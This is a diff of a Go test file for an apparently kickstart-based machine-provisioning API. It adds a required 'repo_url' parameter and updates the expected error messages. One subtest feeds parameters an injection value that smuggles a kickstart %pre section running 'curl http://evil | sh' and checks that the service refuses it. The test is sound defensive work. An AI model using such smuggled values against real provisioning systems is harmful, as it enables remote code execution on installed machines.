@@ -82,20 +82,20 @@ func TestTemplateErrorsAtSave(t *testing.T) {
 	m := machineReq("m1")
 	m.State, m.BootProfile = string(model.StateProvisioned), "ks"
 	r = e.must(422, e.req("POST", api.PathMachines, m))
-	for _, want := range []string{`machine "m1"`, `profile "ks"`, `template "kickstart" line`, `param "root_password_hash" is not set`} {
+	for _, want := range []string{`machine "m1"`, `profile "ks"`, `template "kickstart", snippet "kickstart-mirror" line`, `param "repo_url" is not set`} {
 		assert.Contains(t, r.err().Message, want)
 	}
 
 	for _, param := range []string{"disk", "timezone", "root_password_hash", "repo_url"} {
 		t.Run("injection through "+param, func(t *testing.T) {
-			m.Params = map[string]string{"root_password_hash": "$6$x", param: "sda\n%pre\ncurl http://evil | sh\n%end"}
+			m.Params = map[string]string{"root_password_hash": "$6$x", "repo_url": "http://mirror.example/os/", param: "sda\n%pre\ncurl http://evil | sh\n%end"}
 			r := e.must(422, e.req("POST", api.PathMachines, m))
 			assert.Contains(t, r.err().Message, `param "`+param+`" contains a line break`)
 			assert.Contains(t, r.err().Message, `template "kickstart"`, "the refusal names the template the machine fetches")
 			assert.NotContains(t, r.err().Message, "evil", "the refusal repeats the value")
 		})
 	}
-	m.Params = map[string]string{"root_password_hash": "$6$x"}
+	m.Params = map[string]string{"root_password_hash": "$6$x", "repo_url": "http://mirror.example/os/"}
 	e.must(201, e.req("POST", api.PathMachines, m))
 
 	// Changing the profile or a snippet it uses is checked against m1.
@@ -112,7 +112,7 @@ func TestRenderedPreview(t *testing.T) {
 	e.must(201, e.req("POST", api.PathProfiles, api.BootProfileRequest{Name: "ks", Kernel: "http://k",
 		Templates: map[string]string{"kickstart": "stock:kickstart"}}))
 	m := machineReq("m1")
-	m.BootProfile, m.Params = "ks", map[string]string{"root_password_hash": "$6$x"}
+	m.BootProfile, m.Params = "ks", map[string]string{"root_password_hash": "$6$x", "repo_url": "http://mirror.example/os/"}
 	e.createMachine(m)
 	_, err := e.store.UpdateMachine(context.Background(), "m1", func(x *model.Machine) (bool, error) {
 		x.Run = &model.Run{ID: "r1", Token: "secret-run-token", Profile: "ks"}
